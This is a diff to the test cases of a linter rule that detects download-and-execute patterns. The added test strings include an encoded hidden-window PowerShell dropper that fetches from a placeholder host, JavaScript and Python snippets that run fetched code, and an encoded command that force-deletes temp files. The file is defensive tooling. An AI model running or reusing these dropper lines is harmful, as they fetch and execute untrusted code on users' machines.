@@ -3,6 +3,8 @@ import { ruleTester } from '../../rule-tester.js';
 
 ruleTester('injection.pipe-to-shell', {
   valid: [
+    { text: 'powershell -NoProfile -EncodedCommand RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgACQAZQBuAHYAOgBUAEUATQBQACAAfAAgAFIAZQBtAG8AdgBlAC0ASQB0AGUAbQAgAC0AUgBlAGMAdQByAHMAZQAgAC0ARgBvAHIAYwBlAA==', kind: 'shell', name: 'encoded command without a download' },
+    { text: 'const r = await fetch(url);\nconst total = eval_sum(await r.json());', kind: 'code-js', name: 'fetch then a function merely named eval_…' },
     { text: '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"', kind: 'shell', name: 'Homebrew installer through bash -c' },
     { text: 'RUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -', kind: 'shell', name: 'NodeSource setup script' },
     { text: 'urlretrieve(url, "data.csv")\nprint(open("data.csv").read())', kind: 'code-py', name: 'downloaded data read, not run' },
@@ -18,6 +20,9 @@ ruleTester('injection.pipe-to-shell', {
     { text: '| pipe_to_shell | curl <url> | bash |', kind: 'markdown', name: 'pattern table row' },
   ],
   invalid: [
+    { text: 'powershell -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALgBuAGUAdAAvAGEAJwApAA==', kind: 'shell', name: 'encoded PowerShell dropper (UTF-16LE base64)', errors: [{ line: 1, column: 1 }] },
+    { text: "https.get('https://x.example.net/p.js', (res) => {\n  let src = '';\n  res.on('data', (d) => (src += d));\n  res.on('end', () => vm.runInThisContext(src));\n});", kind: 'code-js', name: 'response body run with vm', errors: [{ line: 1, column: 1 }] },
+    { text: 'code = requests.get(URL, timeout=5).text\nexec(compile(code, "tips", "exec"))', kind: 'code-py', name: 'response text compiled and run', errors: [{ line: 1, column: 8 }] },
     { text: '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/someone/install/HEAD/install.sh)"', kind: 'shell', name: 'same shape, other repository', errors: [{ line: 1, column: 8 }] },
     { text: 'urllib.request.urlretrieve(URL, agent)\nos.chmod(agent, 0o755)', kind: 'code-py', name: 'python download made executable', errors: [{ line: 1, column: 16 }] },
     { text: 'python3 -c "$(echo aW1wb3J0IG9z | base64 --decode)"', kind: 'shell', name: 'decoded script run by python -c', errors: [{ line: 1, column: 1 }] },
